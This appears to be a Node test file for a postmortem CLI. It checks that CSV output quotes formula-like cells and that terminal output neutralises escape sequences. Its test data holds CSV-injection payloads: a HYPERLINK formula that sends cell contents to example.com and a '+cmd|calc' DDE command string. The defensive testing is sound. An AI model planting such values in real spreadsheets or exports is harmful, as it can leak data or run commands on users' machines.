import { test } from 'node:test';
import assert from 'node:assert/strict';
import { run } from '../../server/src/cli/main';
import type { CliIo } from '../../server/src/cli/io';
import { parseCsv } from '../../server/src/engine';
import { temporaryFolders } from './temporaryFolders';

/**
 * `postmortem stats --format csv` opened in a spreadsheet: a title, severity or file name that
 * starts like a formula must arrive as the text it is (OWASP, CSV injection: a single quote in front).
 */
const workspace = temporaryFolders('postmortem-csv-');

async function statsCsv(files: Record<string, string>): Promise<string[][]> {
  let stdout = '';
  const io: CliIo = { cwd: workspace(files), stdout: (text) => (stdout += text), stderr: () => undefined, color: false, now: () => 0, readStdin: async () => '' };
  assert.equal(await run(['stats', '--format', 'csv'], io), 0);
  return parseCsv(stdout);
}

const HOSTILE_TITLES = ['=HYPERLINK("https://example.com/?"&A1,"open")', '+1+cmd|calc', '-2+3', '@SUM(1,2)', 'Plain title'];

test('a title that starts like a formula is written with a quote in front, and reads back as that text', async () => {
  const files = Object.fromEntries(HOSTILE_TITLES.map((title, i) => [`postmortems/${i}.md`, `# ${title}\n`]));
  const rows = await statsCsv(files);
  const titles = new Map(rows.slice(1).map((row) => [row[0], row[2]]));
  assert.equal(titles.get('postmortems/0.md'), `'${HOSTILE_TITLES[0]}`);
  assert.equal(titles.get('postmortems/1.md'), `'${HOSTILE_TITLES[1]}`);
  assert.equal(titles.get('postmortems/2.md'), `'${HOSTILE_TITLES[2]}`);
  assert.equal(titles.get('postmortems/3.md'), `'${HOSTILE_TITLES[3]}`);
  assert.equal(titles.get('postmortems/4.md'), 'Plain title', 'text that starts otherwise is left as it is');
  for (const row of rows.slice(1)) assert.doesNotMatch(row.join(), /(?:^|,)[=+\-@\t\r]/, `no cell starts a formula: ${row.join()}`);
});

test('a severity and a file name that start like a formula get the quote too; numbers stay numbers', async () => {
  const doc = '# Outage\n\n**Severity:** =1+1\n\n## Timeline\n\n- 2026-03-04 14:00 UTC - Deploy\n- 2026-03-04 14:30 UTC - Resolved\n';
  const rows = await statsCsv({ '@incident-notes.md': doc, '\tincident.md': doc });
  const [header, ...body] = rows;
  const cells = (name: string) => body.map((row) => row[header.indexOf(name)]).sort();
  assert.deepEqual(cells('file'), ["'\tincident.md", "'@incident-notes.md"]);
  assert.deepEqual(cells('severity'), ["'=1+1", "'=1+1"]);
  assert.deepEqual(cells('duration_minutes'), ['30', '30']);
});

test('the terminal table shows a control character in a title as a replacement character, not as an escape', async () => {
  let stdout = '';
  const io: CliIo = { cwd: workspace({ 'postmortems/a.md': '# Outage \x1b[2J\x1b[31mred\x07\n' }), stdout: (text) => (stdout += text), stderr: () => undefined, color: false, now: () => 0, readStdin: async () => '' };
  assert.equal(await run(['stats'], io), 0);
  assert.doesNotMatch(stdout, /[\x00-\x08\x0b-\x1f\x7f]/);
  assert.match(stdout, /Outage \uFFFD\[2J\uFFFD\[31mred\uFFFD/);
});
